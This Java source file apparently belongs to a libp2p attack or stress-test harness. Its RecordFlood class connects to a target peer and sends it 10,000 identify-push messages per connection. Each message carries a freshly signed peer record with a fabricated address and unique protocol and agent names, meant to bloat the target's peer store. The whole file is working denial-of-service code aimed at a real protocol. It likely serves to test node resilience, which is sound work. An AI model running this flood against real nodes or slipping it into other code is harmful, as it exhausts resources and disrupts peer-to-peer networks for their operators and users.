package libp2p.scenarios.flood;

import java.io.IOException;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import libp2p.core.muxer.MuxedConnection;
import libp2p.core.muxer.MuxedStream;
import libp2p.core.protobuf.ProtobufWriter;
import libp2p.core.record.PeerRecord;
import libp2p.multiformats.Varint;
import libp2p.multiformats.multiaddr.Multiaddr;
import libp2p.protocols.identify.Identify;

/** Identify pushes, each with a new record, well signed, of other addresses, protocols and names. */
final class RecordFlood {
    private static final int PER_CONNECTION = 10_000;
    private static final int RECORD = 8;
    private static final int PROTOCOL = 3;
    private static final int AGENT = 6;

    private final Attacker attacker;
    private final AtomicLong sequence = new AtomicLong();

    RecordFlood(Attacker attacker) {
        this.attacker = attacker;
    }

    /** Pushes on one connection. */
    void push(int worker) throws IOException {
        try (Stranger stranger = Stranger.connect(attacker.target)) {
            MuxedConnection muxed = stranger.muxed();
            try {
                for (int i = 0; i < PER_CONNECTION; i++) {
                    push(stranger, muxed);
                }
            } finally {
                muxed.close(0, "");
            }
        }
    }

    private void push(Stranger stranger, MuxedConnection muxed) throws IOException {
        long number = sequence.incrementAndGet();
        Multiaddr address = Multiaddr.parse(
                "/ip4/5." + (number >> 16 & 255) + "." + (number >> 8 & 255) + "." + (number & 255) + "/tcp/4001");
        byte[] message = new ProtobufWriter()
                .bytes(
                        RECORD,
                        PeerRecord.seal(stranger.identity(), number, List.of(address))
                                .toBytes())
                .string(PROTOCOL, "/flood/" + number)
                .string(AGENT, "flood/" + number)
                .toByteArray();
        MuxedStream stream = Stranger.open(muxed);
        try {
            Stranger.write(
                    stream,
                    Stranger.HEADER,
                    Stranger.message(Identify.PUSH_PROTOCOL),
                    Varint.encode(message.length),
                    message);
            stream.closeWrite();
            Stranger.drain(stream); // ends when the record has been taken
        } finally {
            stream.reset(0);
            attacker.did();
        }
    }
}
